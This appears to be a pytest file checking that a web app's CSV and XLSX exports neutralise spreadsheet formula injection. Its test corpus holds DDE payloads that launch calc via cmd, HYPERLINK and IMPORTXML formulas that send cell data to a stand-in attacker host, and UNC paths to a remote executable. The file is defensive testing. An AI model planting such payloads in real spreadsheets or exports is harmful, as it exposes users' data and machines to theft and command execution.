"""Exports a spreadsheet shows but never runs or follows: the injection corpus, cell by cell.

Every CSV and XLSX export goes through ``app.kit.spreadsheets``; these are the attacks on it (and
``tests/app/courses/test_export_injection.py`` sends them through the gradebook over HTTP).
"""

from __future__ import annotations

import csv
import io

import pytest

from app.kit.spreadsheets import FORMULA_STARTS, csv_field, safe_cell, to_csv, to_xlsx
from tests.app.kit.xlsx_reading import read_sheet

# Text a spreadsheet would act on: formulas, DDE, links (web, UNC, mailto), cell splitters.
CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "file:///\\\\evil.example\\share\\x.exe",
    "\\\\evil.example\\share",
    "https://evil.example/login",
    "mailto:victim@example.com",
    "a,b",
    "a;b",
    "a\tb",
    'say "hi"',
    "line\nbreak",
    "line\r\nbreak",
    " padded ",
    "plain text",
    "ünïcode – ok",
    "",
]


@pytest.mark.parametrize("text", CORPUS)
def test_csv_reads_back_as_one_cell_with_formulas_neutralised(text: str) -> None:
    content = to_csv([["before", text, "after"]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows == [["before", safe_cell(text), "after"]]
    if text.startswith(FORMULA_STARTS):
        assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["a,b", "a;b", "a\tb", 'x"y', "a\nb", "a\rb", " a"])
def test_fields_with_delimiters_quotes_or_line_breaks_are_quoted(text: str) -> None:
    field = csv_field(text)
    assert field.startswith('"') and field.endswith('"')
    assert field[1:-1].replace('""', "").count('"') == 0


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text() -> None:
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("-3") == "'-3"
    assert safe_cell(True) == "True"
    assert to_csv([[1, 2.5, None, -4]]) == b"\xef\xbb\xbf1,2.5,,-4\r\n"


def test_xlsx_holds_no_formula_no_link_and_only_neutralised_text() -> None:
    rows = [["header", "n"], *[[text, 1.5] for text in CORPUS]]
    sheet = read_sheet(to_xlsx(rows, "Sheet"))
    assert sheet.formulas == 0
    assert sheet.hyperlinks == 0 and "hyperlink" not in sheet.relationships
    expected = ["header", "n", *[str(safe_cell(t)) for t in CORPUS]]
    assert sheet.texts() == expected
    assert [v for kind, v in sheet.cells if kind == "n"] == ["1.5"] * len(CORPUS)
    assert not any(t.startswith(FORMULA_STARTS) for t in sheet.texts())


def test_xlsx_writes_numeric_looking_text_as_text() -> None:
    sheet = read_sheet(to_xlsx([["1e3", "0012", 7]], "Sheet"))
    assert sheet.cells == [("s", "1e3"), ("s", "0012"), ("n", "7")]
